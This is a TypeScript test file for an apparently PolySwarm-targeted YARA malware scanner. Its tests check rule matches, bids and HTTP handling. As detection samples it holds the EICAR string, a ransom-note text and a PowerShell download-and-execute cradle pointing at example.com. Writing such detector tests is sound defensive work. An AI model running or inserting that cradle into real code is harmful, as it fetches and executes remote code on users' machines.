/**
 * Tests for the rule set and src/scan.ts. Each example rule is checked against a sample it must match and one it
 * must not (add a line to SAMPLES for every rule you write); then the rule set's loading and compile errors, and
 * last the real engine on a loopback port, sent a signed EICAR bounty exactly as PolySwarm would.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { createEngine, testEngine, type Bounty, type ScanContext } from 'polyswarm-engine';
import { loadRuleSet, RuleCompileError } from '../src/rules.js';
import { YaraScanner } from '../src/scanner.js';
import { computeBid, ruleSet, scan } from '../src/scan.js';

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const CRADLE = 'IEX (New-Object Net.WebClient).DownloadString("http://example.com/run.ps1")';
const NOTE = 'All your files have been encrypted. Send Bitcoin to the address below to get your personal decryption key.';

/** Every example rule: a sample it must match, the answer it gives, and a near miss it must not match. */
const SAMPLES = [
  {
    rule: 'EICAR_Test_File',
    match: `${EICAR}\n`,
    miss: `The EICAR file quoted inside a document: ${EICAR}`,
    verdict: 'malicious',
    family: 'EICAR-Test-File',
    confidence: undefined,
  },
  {
    rule: 'PowerShell_Download_Cradle',
    match: CRADLE,
    miss: '(New-Object Net.WebClient).DownloadFile("http://example.com/setup.exe", "setup.exe")',
    verdict: 'suspicious',
    family: 'PowerShell-Downloader',
    confidence: 0.4,
  },
  {
    rule: 'Ransom_Note_In_Executable',
    match: `MZ\x90\x00${NOTE}`,
    miss: `README.txt: ${NOTE}`,
    verdict: 'malicious',
    family: 'Generic-Ransomware',
    confidence: 0.8,
  },
] as const;

const MAX_BID = 1_000_000_000_000_000_000n;
const MIN_BID = 62_500_000_000_000_000n;

/** A bounty whose artifact is `content`, with PolySwarm's usual bid rules (in wei). */
function fakeBounty(content: string | Buffer, overrides: Partial<Bounty> = {}): Bounty {
  const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1');
  return {
    id: '1',
    artifact_type: 'file',
    artifact_uri: 'http://127.0.0.1:9/artifact',
    expiration: new Date(Date.now() + 30_000),
    expiration_was_naive: false,
    response_url: 'http://127.0.0.1:9/answer',
    rules: { min_allowed_bid: MIN_BID, max_allowed_bid: MAX_BID },
    sha256: null,
    mimetype: 'application/octet-stream',
    phase: 'assertion',
    answer_kind: 'assertion',
    metadata: null,
    duration: null,
    tasked_at: null,
    version: 'v1',
    fetchArtifact: async () => bytes,
    artifactPath: async () => {
      throw new Error('this scanner reads bytes, not files');
    },
    ...overrides,
  };
}

const quiet: ScanContext['log'] = {
  level: 'silent',
  format: 'text',
  debug() {},
  info() {},
  warn() {},
  error() {},
  child: () => quiet,
};
const context = (): ScanContext => ({ signal: AbortSignal.timeout(10_000), deadline: new Date(Date.now() + 10_000), log: quiet });

describe.each(SAMPLES)('rule $rule', (sample) => {
  it(`matches its sample: ${sample.verdict}, family ${sample.family}`, async () => {
    const result = await scan(fakeBounty(sample.match), context());
    expect(result.verdict).toBe(sample.verdict);
    expect(result.metadata?.malware_family).toBe(sample.family);
    expect(result.metadata?.yara_rules).toEqual([sample.rule]);
    expect(result.confidence).toBe(sample.confidence);
  });

  it('does not match its near miss', async () => {
    const result = await scan(fakeBounty(sample.miss), context());
    expect(result.metadata?.yara_rules).toBeUndefined();
    expect(result.verdict).toBe('benign');
  });
});

describe('scan', () => {
  it('answers benign when no rule matches, with the rule set’s version', async () => {
    const result = await scan(fakeBounty('just a harmless text file\n'), context());
    expect(result.verdict).toBe('benign');
    expect(result.metadata?.malware_family).toBe('');
    expect(result.metadata?.scanner?.signatures_version).toBe(ruleSet.version);
    expect(ruleSet.version).toMatch(/^[0-9a-f]{12}$/);
  });

  it('answers unknown for URL artifacts, which it cannot scan', async () => {
    const result = await scan(fakeBounty('', { artifact_type: 'url', artifact_uri: 'https://example.com/' }), context());
    expect(result.verdict).toBe('unknown');
  });

  it('bids what the matching rule’s confidence says, in wei', async () => {
    const certain = fakeBounty(EICAR);
    expect(computeBid(certain, await scan(certain, context()))).toBe(MAX_BID);
    const ransom = fakeBounty(SAMPLES[2].match);
    expect(computeBid(ransom, await scan(ransom, context()))).toBe(MIN_BID + ((MAX_BID - MIN_BID) * 8n) / 10n);
  });

  it('scans several artifacts at once, each getting its own answer', async () => {
    const results = await Promise.all(SAMPLES.flatMap((s) => [s.match, s.miss]).map((content) => scan(fakeBounty(content), context())));
    expect(results.map((r) => r.verdict)).toEqual(SAMPLES.flatMap((s) => [s.verdict, 'benign']));
  });
});

describe('the rule set', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'yara-rules-test-'));
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));
  let n = 0;
  /** A rules folder with these files (path → text). */
  const folder = (files: Record<string, string>) => {
    const dir = join(tmp, `rules${++n}`);
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(join(dir, name, '..'), { recursive: true });
      writeFileSync(join(dir, name), text);
    }
    return dir;
  };

  it('compiles included files where they are included, not a second time', async () => {
    const dir = folder({
      'index.yar': 'include "common/strings.yar"\nrule Uses_Common { condition: Common_Marker }\n',
      'common/strings.yar': 'rule Common_Marker { strings: $m = "marker-42" condition: $m }\n',
      'standalone.yara': 'rule Standalone { strings: $s = "alone" condition: $s }\n',
    });
    const set = loadRuleSet(dir);
    expect(set.entries.map((f) => f.slice(dir.length + 1))).toEqual(['index.yar', 'standalone.yara']);
    const scanner = await YaraScanner.start(set, 1);
    try {
      expect((await scanner.scan(Buffer.from('a marker-42, alone'))).map((m) => m.rule).sort()).toEqual([
        'Common_Marker',
        'Standalone',
        'Uses_Common',
      ]);
    } finally {
      await scanner.close();
    }
  });

  it('changes its version when a rule changes', () => {
    const dir = folder({ 'a.yar': 'rule A { strings: $a = "a" condition: $a }\n' });
    const before = loadRuleSet(dir).version;
    writeFileSync(join(dir, 'a.yar'), 'rule A { strings: $a = "b" condition: $a }\n');
    expect(loadRuleSet(dir).version).not.toBe(before);
  });

  it('names the file, line and column of a rule that does not compile, included or not', async () => {
    const dir = folder({
      'good.yar': 'rule Good { condition: filesize > 0 }\n',
      'index.yar': 'include "sub/broken.yar"\n',
      'sub/broken.yar': 'rule Broken\n{\n  condition:\n    no_such_thing\n}\n',
    });
    const error = await YaraScanner.start(loadRuleSet(dir), 1).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RuleCompileError);
    expect((error as RuleCompileError).location).toEqual({ file: join(dir, 'sub', 'broken.yar'), line: 4, column: 5 });
    expect((error as RuleCompileError).message).toBe('unknown identifier `no_such_thing`: this identifier has not been declared (E009)');
  });

  it('refuses a folder with no rules', () => {
    expect(() => loadRuleSet(folder({ 'notes.txt': 'no rules here' }))).toThrow(/no \.yar or \.yara file/);
  });
});

describe('the engine over HTTP', () => {
  let stop: (() => Promise<void>) | undefined;
  afterEach(async () => {
    await stop?.();
    stop = undefined;
  });

  it('answers a signed EICAR bounty with a malicious assertion', async () => {
    const secret = 'a-test-secret';
    const engine = createEngine({ secret, module: { scan, computeBid } });
    const server = await engine.listen({ port: 0 });
    stop = async () => {
      await engine.close({ graceMs: 1000 });
      await server.close();
    };
    const report = await testEngine({ url: server.url, secret, bounty: { artifact: 'eicar', expirationMs: 10_000 } });
    const failures = report.cases.filter((c) => !c.ok).map((c) => `${c.name}: ${c.messages.join('; ')}`);
    expect(failures).toEqual([]);
    expect(report.ok).toBe(true);
  }, 20_000);
});
